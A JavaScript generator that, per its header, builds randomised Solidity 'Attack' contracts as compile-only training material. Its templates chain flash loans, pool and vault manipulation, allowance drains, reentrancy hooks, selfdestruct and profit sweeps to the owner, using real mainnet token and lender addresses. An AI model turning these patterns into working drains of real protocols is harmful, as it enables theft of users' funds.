// Attack contracts made up from what real ones are made of: a loan, steps against a victim, repayment, and a way out. They work on
// nothing: they are there to be compiled, so that a model sees the shape in many ways to write it.

/** Mulberry32: the same contracts from the same seed everywhere. */
export class Dice {
  constructor(seed) {
    this.state = seed >>> 0;
  }
  next() {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(this.state ^ (this.state >>> 15), 1 | this.state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  }
  below(n) {
    return Math.floor(this.next() * n);
  }
  pick(list) {
    return list[this.below(list.length)];
  }
  some(list, n) {
    const left = [...list];
    return Array.from({ length: Math.min(n, left.length) }, () => left.splice(this.below(left.length), 1)[0]);
  }
  chance(p) {
    return this.next() < p;
  }
  hex(digits) {
    return Array.from({ length: digits }, () => this.below(16).toString(16)).join("");
  }
}

const INTERFACES = `
interface IERC20 {
  function balanceOf(address a) external view returns (uint256);
  function transfer(address to, uint256 v) external returns (bool);
  function transferFrom(address f, address t, uint256 v) external returns (bool);
  function approve(address s, uint256 v) external returns (bool);
  function totalSupply() external view returns (uint256);
  function allowance(address o, address s) external view returns (uint256);
}
interface IWETH { function deposit() external payable; function withdraw(uint256 v) external; }
interface IPair {
  function getReserves() external view returns (uint112, uint112, uint32);
  function swap(uint256 a, uint256 b, address to, bytes calldata d) external;
  function sync() external; function skim(address to) external;
  function token0() external view returns (address); function token1() external view returns (address);
  function mint(address to) external returns (uint256); function burn(address to) external returns (uint256, uint256);
}
interface IRouter {
  function swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256 i, uint256 o, address[] calldata p, address t, uint256 d) external;
  function swapExactTokensForTokens(uint256 i, uint256 o, address[] calldata p, address t, uint256 d) external returns (uint256[] memory);
  function swapExactETHForTokensSupportingFeeOnTransferTokens(uint256 o, address[] calldata p, address t, uint256 d) external payable;
  function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 i, uint256 o, address[] calldata p, address t, uint256 d) external;
  function addLiquidity(address a, address b, uint256 x, uint256 y, uint256 n, uint256 m, address t, uint256 d) external returns (uint256, uint256, uint256);
  function removeLiquidity(address a, address b, uint256 l, uint256 n, uint256 m, address t, uint256 d) external returns (uint256, uint256);
  function getAmountsOut(uint256 i, address[] calldata p) external view returns (uint256[] memory);
}
interface IBalancer { function flashLoan(address r, address[] calldata t, uint256[] calldata a, bytes calldata d) external; }
interface IAaveV2 {
  function flashLoan(address r, address[] calldata a, uint256[] calldata v, uint256[] calldata m, address o, bytes calldata p, uint16 c) external;
  function deposit(address a, uint256 v, address o, uint16 c) external; function borrow(address a, uint256 v, uint256 m, uint16 c, address o) external;
  function withdraw(address a, uint256 v, address t) external returns (uint256); function repay(address a, uint256 v, uint256 m, address o) external returns (uint256);
  function liquidationCall(address c, address d, address u, uint256 v, bool r) external;
}
interface IAaveV3 { function flashLoanSimple(address r, address a, uint256 v, bytes calldata p, uint16 c) external; }
interface IDodo { function flashLoan(uint256 b, uint256 q, address t, bytes calldata d) external; function _BASE_TOKEN_() external view returns (address); }
interface IV3Pool {
  function flash(address r, uint256 a, uint256 b, bytes calldata d) external;
  function swap(address r, bool z, int256 a, uint160 p, bytes calldata d) external returns (int256, int256);
}
interface ILender { function flashLoan(address r, address t, uint256 v, bytes calldata d) external returns (bool); }
interface IMorpho { function flashLoan(address t, uint256 v, bytes calldata d) external; }
interface ICToken {
  function mint(uint256 v) external returns (uint256); function mint() external payable; function redeem(uint256 v) external returns (uint256);
  function redeemUnderlying(uint256 v) external returns (uint256); function borrow(uint256 v) external returns (uint256);
  function liquidateBorrow(address b, uint256 v, address c) external returns (uint256); function getCash() external view returns (uint256);
  function exchangeRateStored() external view returns (uint256); function accrueInterest() external returns (uint256);
}
interface IComptroller { function enterMarkets(address[] calldata c) external returns (uint256[] memory); function getAccountLiquidity(address a) external view returns (uint256, uint256, uint256); }
interface ICurve {
  function exchange(int128 i, int128 j, uint256 x, uint256 y) external; function add_liquidity(uint256[2] calldata a, uint256 m) external;
  function remove_liquidity_one_coin(uint256 v, int128 i, uint256 m) external; function remove_liquidity_imbalance(uint256[2] calldata a, uint256 m) external;
  function get_virtual_price() external view returns (uint256);
}
interface IVault4626 {
  function deposit(uint256 v, address r) external returns (uint256); function redeem(uint256 s, address r, address o) external returns (uint256);
  function mint(uint256 s, address r) external returns (uint256); function withdraw(uint256 v, address r, address o) external returns (uint256);
}
interface INft { function safeTransferFrom(address f, address t, uint256 i) external; function setApprovalForAll(address o, bool y) external; function tokenOfOwnerByIndex(address o, uint256 i) external view returns (uint256); }
`;

const KNOWN = [
  "c02aaa39b223fe8d0a0e5c4f27ead9083c756cc2", "a0b86991c6218b36c1d19d4a2e9eb0ce3606eb48", "dac17f958d2ee523a2206206994597c13d831ec7",
  "6b175474e89094c44da98b954eedeac495271d0f", "bb4cdb9cbd36b01bd1cbaebf2de08d9173bc095c", "55d398326f99059ff775485246999027b3197955",
  "e9e7cea3dedca5984780bafc599bd69add087d56", "2260fac5e5542a773aa44fbcfedf7c193bc2c599",
];
const ROUTERS = ["7a250d5630b4cf539739df2c5dacb4c659f2488d", "10ed43c718714eb63d5aa57b78b54704e256024e", "d9e1ce17f2641f24ae83637ab66a2cca9c378b9f"];
const ENTRIES = ["attack", "start", "go", "run", "exploit", "execute", "hack", "begin", "main", "doit", "pwn", "test", "init", "drain", "work", "trigger"];
const VERBS = ["claim", "claimReward", "harvest", "stake", "unstake", "getReward", "compound", "rebase", "distribute", "swapBack", "updatePool", "sell", "buy", "redeemFor", "bond", "burnFrom", "migrate", "upgrade", "setOracle", "execute", "mintTo", "withdrawAll", "exit", "sync", "invest", "deposit", "withdraw", "emergencyWithdraw", "process", "collect", "convert", "recover", "setRewards", "distributeFee", "airdrop", "release", "enter", "leave"];
const TYPES = ["uint256", "address", "uint256,uint256", "address,uint256", "bytes", "address,address,uint256", "", "uint256,address", "bool", "address[]"];

const address = (digits) => `address(uint160(uint256(0x${digits.padStart(64, "0")})))`;

/** The source of one contract, and of what it needs. */
export function contract(dice) {
  const stored = dice.chance(0.3);
  const fields = [];
  const names = new Map();
  // Where the contract has its victims: as constants, in storage, or in place.
  const style = dice.pick(["constant", "constant", "inline", "stored"]);
  const place = (kind, pool) => {
    const key = `${kind}${pool && dice.chance(0.6) ? dice.below(2) : names.size}`;
    if (!names.has(key)) {
      const value = address(pool && dice.chance(0.7) ? dice.pick(pool) : dice.hex(40));
      if (style === "inline") names.set(key, value);
      else {
        fields.push(`  address ${style === "constant" ? "constant" : ""} ${key} = ${value};`);
        names.set(key, key);
      }
    }
    return names.get(key);
  };
  const token = () => place("token", KNOWN);
  const me = "address(this)";
  const balance = (t, a = me) => `IERC20(${t}).balanceOf(${a})`;
  const amount = () => {
    const n = dice.pick([1, 2, 5, 10, 50, 100, 250, 500, 1000, 3000, 10000, 25000, 100000, 1000000]);
    return dice.pick([`${n} ether`, `${n} * 1e18`, `${n}e18`, `${n}e6`, `${n}000000`]);
  };
  const part = (t) => dice.pick([balance(t), balance(t), `${balance(t)} / ${dice.pick([2, 3, 10, 100])}`, amount(), `${balance(t)} - 1`]);
  let counter = 0;
  const fresh = (base) => `${base}${counter++}`;
  const victims = [];
  const victim = () => {
    const name = dice.chance(0.5) ? dice.pick(VERBS) : dice.pick(VERBS) + dice.pick(["For", "With", "To", "All", "V2", "Token", "Rewards"]);
    const types = dice.pick(TYPES);
    victims.push(`function ${name}(${types.replaceAll("bytes", "bytes calldata").replaceAll("[]", "[] calldata")}) external;`);
    return [name, types];
  };
  const argument = (type) => {
    switch (type) {
      case "uint256": return dice.pick([amount(), "1", "0", dice.pick(MAX), balance(token())]);
      case "address": return dice.pick([me, token(), "msg.sender", "tx.origin"]);
      case "bytes": return dice.pick(['""', `abi.encode(${me}, ${amount()})`]);
      case "bool": return "true";
      case "address[]": return "new address[](1)";
    }
  };
  const MAX = ["type(uint256).max"];
  const helpers = [];
  const steps = {
    router() {
      const [a, b, p] = [token(), token(), fresh("path")];
      const out = dice.pick(["swapExactTokensForTokensSupportingFeeOnTransferTokens", "swapExactTokensForTokens"]);
      const approve = dice.chance(0.6) ? `IERC20(${a}).approve(${place("router", ROUTERS)}, ${dice.pick(MAX)});` : "";
      return `${approve} address[] memory ${p} = new address[](2); ${p}[0] = ${a}; ${p}[1] = ${b};
      IRouter(${place("router", ROUTERS)}).${out}(${part(a)}, ${dice.pick(["0", "1"])}, ${p}, ${me}, ${dice.pick(["block.timestamp", "block.timestamp + 100", dice.pick(MAX)])});`;
    },
    pair() {
      const [a, pair, r, s] = [token(), place("pair"), fresh("r"), fresh("s")];
      const out = fresh("out");
      return `(uint256 ${r}, uint256 ${s},) = IPair(${pair}).getReserves(); IERC20(${a}).transfer(${pair}, ${part(a)});
      uint256 ${out} = (${balance(a, pair)} - ${r}) * 997 * ${s} / (${r} * 1000 + (${balance(a, pair)} - ${r}) * 997);
      IPair(${pair}).swap(0, ${out}, ${me}, "");`;
    },
    skim() {
      const [a, pair] = [token(), place("pair")];
      const times = dice.pick([1, 2, 10, 20]);
      const body = `IERC20(${a}).transfer(${pair}, ${part(a)}); IPair(${pair}).skim(${dice.pick([me, pair])});`;
      return times === 1 ? `${body} IPair(${pair}).sync();` : `for (uint256 i = 0; i < ${times}; i++) { ${body} } IPair(${pair}).sync();`;
    },
    donate() {
      const [a, v] = [token(), place("vault")];
      return `IERC20(${a}).approve(${v}, ${dice.pick(MAX)}); IVault4626(${v}).${dice.pick(["deposit", "mint"])}(${dice.pick(["1", amount()])}, ${me});
      IERC20(${a}).transfer(${v}, ${part(a)}); IVault4626(${v}).redeem(${balance(v)}, ${me}, ${me});`;
    },
    compound() {
      const [a, c, d, l] = [token(), place("ctoken"), place("ctoken"), fresh("markets")];
      return `IERC20(${a}).approve(${c}, ${dice.pick(MAX)}); ICToken(${c}).mint(${part(a)}); address[] memory ${l} = new address[](1); ${l}[0] = ${c};
      IComptroller(${place("comptroller")}).enterMarkets(${l}); ICToken(${d}).borrow(${dice.pick([`ICToken(${d}).getCash()`, amount(), balance(a, d)])});
      ${dice.chance(0.4) ? `ICToken(${c}).redeemUnderlying(${amount()});` : ""} ${dice.chance(0.3) ? `ICToken(${d}).liquidateBorrow(${me}, ${amount()}, ${c});` : ""}`;
    },
    aave() {
      const [a, b, p] = [token(), token(), place("market")];
      return `IERC20(${a}).approve(${p}, ${dice.pick(MAX)}); IAaveV2(${p}).deposit(${a}, ${part(a)}, ${me}, 0); IAaveV2(${p}).borrow(${b}, ${balance(b, p)}, 2, 0, ${me});
      ${dice.chance(0.4) ? `IAaveV2(${p}).liquidationCall(${a}, ${b}, ${me}, ${dice.pick(MAX)}, false);` : `IAaveV2(${p}).withdraw(${a}, ${dice.pick(MAX)}, ${me});`}`;
    },
    curve() {
      const [c, a] = [place("curve"), token()];
      return `IERC20(${a}).approve(${c}, ${dice.pick(MAX)}); ICurve(${c}).add_liquidity([${part(a)}, uint256(0)], 0);
      ${dice.chance(0.5) ? `ICurve(${c}).exchange(0, 1, ${part(a)}, 0);` : ""} ICurve(${c}).remove_liquidity_one_coin(${balance(c)}, 1, 0);`;
    },
    victim() {
      const [name, types] = victim();
      const given = types ? types.split(",").map(argument).join(", ") : "";
      return `IVictim(${place("victim")}).${name}(${given});`;
    },
    loop() {
      const [name, types] = victim();
      const given = types ? types.split(",").map(argument).join(", ") : "";
      const v = place("victim");
      return `for (uint256 i = 0; i < ${dice.pick(["5", "10", "30", "100", "rounds"])}; i++) { IVictim(${v}).${name}(${given}); ${dice.chance(0.3) ? `IERC20(${token()}).transfer(${me}, ${amount()});` : ""} }`;
    },
    raw() {
      const [name, types] = victim();
      const given = types ? ", " + types.split(",").map(argument).join(", ") : "";
      const ok = fresh("ok");
      return `(bool ${ok},) = ${place("victim")}.call(abi.encodeWithSignature("${name}(${types})"${given})); ${dice.chance(0.5) ? `require(${ok});` : `${ok};`}`;
    },
    drain() {
      const [a, v] = [token(), fresh("v")];
      return `address ${v} = ${place("holder")}; IERC20(${a}).transferFrom(${v}, ${dice.pick([me, "msg.sender"])}, ${dice.pick([balance(a, v), `IERC20(${a}).allowance(${v}, ${me})`])});`;
    },
    helper() {
      const [a, h] = [token(), fresh("Helper")];
      const [name, types] = victim();
      const given = types ? types.split(",").map((type) => (type === "bytes" ? '""' : type === "bool" ? "true" : type === "address[]" ? "new address[](1)" : type === "address" ? "me" : "v")).join(", ") : "";
      helpers.push(`contract ${h} { constructor(address v_, address t, uint256 v) ${"public"} { address me = address(this); IERC20(t).approve(v_, v); IVictim(v_).${name}(${given}); IERC20(t).transfer(msg.sender, IERC20(t).balanceOf(me)); ${dice.chance(0.5) ? "selfdestruct(payable(msg.sender));" : ""} } }`);
      return `new ${h}(${place("victim")}, ${a}, ${amount()});`;
    },
    nft() {
      const n = place("nft");
      return `INft(${n}).setApprovalForAll(${place("victim")}, true); INft(${n}).safeTransferFrom(${me}, ${place("victim")}, ${dice.pick(["1", "0", `INft(${n}).tokenOfOwnerByIndex(${me}, 0)`])});`;
    },
    liquidity() {
      const [a, b] = [token(), token()];
      const r = place("router", ROUTERS);
      return `IERC20(${a}).approve(${r}, ${dice.pick(MAX)}); IERC20(${b}).approve(${r}, ${dice.pick(MAX)}); IRouter(${r}).addLiquidity(${a}, ${b}, ${part(a)}, ${part(b)}, 0, 0, ${me}, block.timestamp);
      ${dice.chance(0.6) ? `IRouter(${r}).removeLiquidity(${a}, ${b}, ${balance(place("pair"))}, 0, 0, ${me}, block.timestamp);` : ""}`;
    },
    ether() {
      return `IWETH(${token()}).${dice.chance(0.5) ? `withdraw(${part(token())})` : `deposit{value: ${dice.pick([`${me}.balance`, "msg.value", "1 ether"])}}()`};`;
    },
  };
  const kinds = Object.keys(steps);
  const favourite = dice.some(kinds, 3 + dice.below(3)).concat("victim", "victim", "loop");
  const body = (n) => Array.from({ length: n }, () => `{ ${steps[dice.pick(favourite)]()} }`).join("\n    ");
  const check = (who) => (dice.chance(0.25) ? `require(msg.sender == ${who});` : "");
  const repay = (t, to, v) => dice.pick([`IERC20(${t}).transfer(${to}, ${v});`, `IERC20(${t}).transfer(${to}, ${v} * 1004 / 1000);`]);
  const gate = dice.pick(["", "", "", "require(msg.sender == owner);", 'require(msg.sender == owner, "!owner");', "require(tx.origin == owner);"]);
  const work = () => body(1 + dice.below(4));
  const loans = {
    none: () => [work(), ""],
    balancer() {
      const [t, b] = [token(), address("ba12222222228d8ba445958a75a0704d566bf2c8")];
      return [`address[] memory ts = new address[](1); ts[0] = ${t}; uint256[] memory vs = new uint256[](1); vs[0] = ${amount()}; IBalancer(${b}).flashLoan(${me}, ts, vs, "");`,
        `function receiveFlashLoan(address[] memory t, uint256[] memory v, uint256[] memory f, bytes memory d) external payable { ${check(b)} ${work()} IERC20(t[0]).transfer(${dice.pick(["msg.sender", b])}, v[0]${dice.chance(0.5) ? " + f[0]" : ""}); }`];
    },
    aave2() {
      const [t, p] = [token(), address(dice.pick(["7d2768de32b0b80b7a3454c06bdac94a69ddc7a9", dice.hex(40)]))];
      return [`address[] memory ts = new address[](1); ts[0] = ${t}; uint256[] memory vs = new uint256[](1); vs[0] = ${amount()}; uint256[] memory ms = new uint256[](1); IAaveV2(${p}).flashLoan(${me}, ts, vs, ms, ${me}, "", 0);`,
        `function executeOperation(address[] calldata t, uint256[] calldata v, uint256[] calldata f, address i, bytes calldata d) external returns (bool) { ${check(p)} ${work()} IERC20(t[0]).approve(${p}, v[0] + f[0]); return true; }`];
    },
    aave3() {
      const [t, p] = [token(), address(dice.pick(["87870bca3f3fd6335c3f4ce8392d69350b4fa4e2", "794a61358d6845594f94dc1db02a252b5b4814ad"]))];
      return [`IAaveV3(${p}).flashLoanSimple(${me}, ${t}, ${amount()}, "", 0);`,
        `function executeOperation(address t, uint256 v, uint256 f, address i, bytes calldata d) external returns (bool) { ${work()} IERC20(t).approve(${dice.pick([p, "msg.sender"])}, v + f); return true; }`];
    },
    pair() {
      const [t, p, call] = [token(), place("pair"), dice.pick(["uniswapV2Call", "pancakeCall", "uniswapV2Call", "pancakeCall", "waultSwapCall", "BiswapCall"])];
      return [`IPair(${p}).swap(${dice.pick([`${amount()}, 0`, `0, ${amount()}`, `${balance(t, p)} - 1, 0`])}, ${me}, ${dice.pick(['"1"', "abi.encode(1)", 'new bytes(1)'])});`,
        `function ${call}(address s, uint256 a, uint256 b, bytes calldata d) external { ${check(p)} ${work()} ${repay(t, dice.pick([p, "msg.sender"]), dice.pick(["a", "b", "(a + b)"]))} }`];
    },
    dodo() {
      const [t, p] = [token(), place("dodo")];
      return [`IDodo(${p}).flashLoan(${dice.chance(0.5) ? `${amount()}, 0` : `0, ${amount()}`}, ${me}, ${dice.pick(['"1"', "abi.encode(1)"])});`,
        `function ${dice.pick(["DPPFlashLoanCall", "DVMFlashLoanCall", "DSPFlashLoanCall"])}(address s, uint256 a, uint256 b, bytes calldata d) external { ${check(p)} ${work()} IERC20(${t}).transfer(${dice.pick([p, "msg.sender"])}, ${dice.pick(["a", "b", amount()])}); }`];
    },
    v3() {
      const [t, p] = [token(), place("pool")];
      return [`IV3Pool(${p}).flash(${me}, ${dice.chance(0.5) ? `${amount()}, 0` : `0, ${amount()}`}, ${dice.pick(['""', "abi.encode(1)"])});`,
        `function ${dice.pick(["uniswapV3FlashCallback", "pancakeV3FlashCallback"])}(uint256 a, uint256 b, bytes calldata d) external { ${check(p)} ${work()} IERC20(${t}).transfer(${dice.pick([p, "msg.sender"])}, ${amount()} + a + b); }`];
    },
    lender() {
      const [t, p] = [token(), place("lender")];
      return [`ILender(${p}).flashLoan(${me}, ${t}, ${amount()}, "");`,
        `function onFlashLoan(address i, address t, uint256 v, uint256 f, bytes calldata d) external returns (bytes32) { ${work()} IERC20(t).approve(${dice.pick([p, "msg.sender"])}, v + f); return keccak256("ERC3156FlashBorrower.onFlashLoan"); }`];
    },
    morpho() {
      const [t, p] = [token(), address("bbbbbbbbbb9cc5e90e3b3af64bdaf62c37eeffcb")];
      return [`IERC20(${t}).approve(${p}, ${dice.pick(MAX)}); IMorpho(${p}).flashLoan(${t}, ${amount()}, "");`,
        `function onMorphoFlashLoan(uint256 v, bytes calldata d) external { ${work()} }`];
    },
    swap3() {
      const [t, p] = [token(), place("pool")];
      return [`IV3Pool(${p}).swap(${me}, ${dice.pick(["true", "false"])}, int256(${amount()}), 4295128740, "");`,
        `function ${dice.pick(["uniswapV3SwapCallback", "pancakeV3SwapCallback"])}(int256 a, int256 b, bytes calldata d) external { ${work()} IERC20(${t}).transfer(msg.sender, uint256(a > 0 ? a : b)); }`];
    },
  };
  const [begin, callback] = loans[dice.pick([...Object.keys(loans), "none", "none", "pair", "balancer", "dodo"])]();
  const receiver = dice.pick(["owner", "msg.sender", "tx.origin"]);
  const profit = dice.pick([
    () => { const t = token(); return `IERC20(${t}).transfer(${receiver}, ${balance(t)});`; },
    () => { const t = token(); return `IERC20(${t}).transfer(${receiver}, IERC20(${t}).balanceOf(${me})); payable(${receiver}).transfer(${me}.balance);`; },
    () => `selfdestruct(payable(${receiver}));`,
    () => "",
    () => { const ok = fresh("ok"); return `(bool ${ok},) = ${receiver}.call{value: ${me}.balance}(""); require(${ok});`; },
  ])();
  const inConstructor = dice.chance(0.15) && callback === "";
  const entry = dice.chance(0.65) ? dice.pick(ENTRIES) : `f_${dice.hex(6)}`;
  const given = dice.pick(["", "", "", "uint256 rounds", "address to, uint256 rounds", "uint256 rounds, bytes calldata"]);
  const reenter = dice.chance(0.3) ? `if (msg.sender == ${place("victim")}${dice.chance(0.5) ? " && gasleft() > 100000" : ""}) { ${steps.victim()} }` : "";
  const hook = dice.chance(0.12) ? `function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) { ${dice.chance(0.5) ? steps.victim() : ""} return 0x150b7a02; }` : "";
  const hook777 = dice.chance(0.06) ? `function tokensReceived(address, address, address, uint256, bytes calldata, bytes calldata) external { ${steps.victim()} }` : "";
  const withdrawal = dice.chance(0.35) ? `function ${dice.pick(["withdraw", "rescue", "take", "sweep", "withdrawToken"])}(address t) external { ${gate} IERC20(t).transfer(${receiver}, IERC20(t).balanceOf(${me})); }` : "";
  const approvals = dice.chance(0.3) ? `IERC20(${token()}).approve(${place("victim")}, ${dice.pick(MAX)});` : "";
  return `// SPDX-License-Identifier: MIT
${INTERFACES}
interface IVictim { ${[...new Set(victims)].join(" ")} }
contract Attack {
  address owner; uint256 rounds = ${dice.pick([3, 10, 50])};
${fields.join("\n")}
  constructor() public payable { owner = msg.sender; ${approvals} ${inConstructor ? `${begin} ${profit}` : ""} }
  ${inConstructor ? "" : `function ${entry}(${given.replace(/rounds/, "rounds_")}) external ${dice.pick(["", "payable"])} { ${gate}
    ${begin}
    ${profit} }`}
  ${callback}
  ${hook} ${hook777} ${withdrawal}
  receive() external payable { ${reenter} }
}
${helpers.join("\n")}`;
}
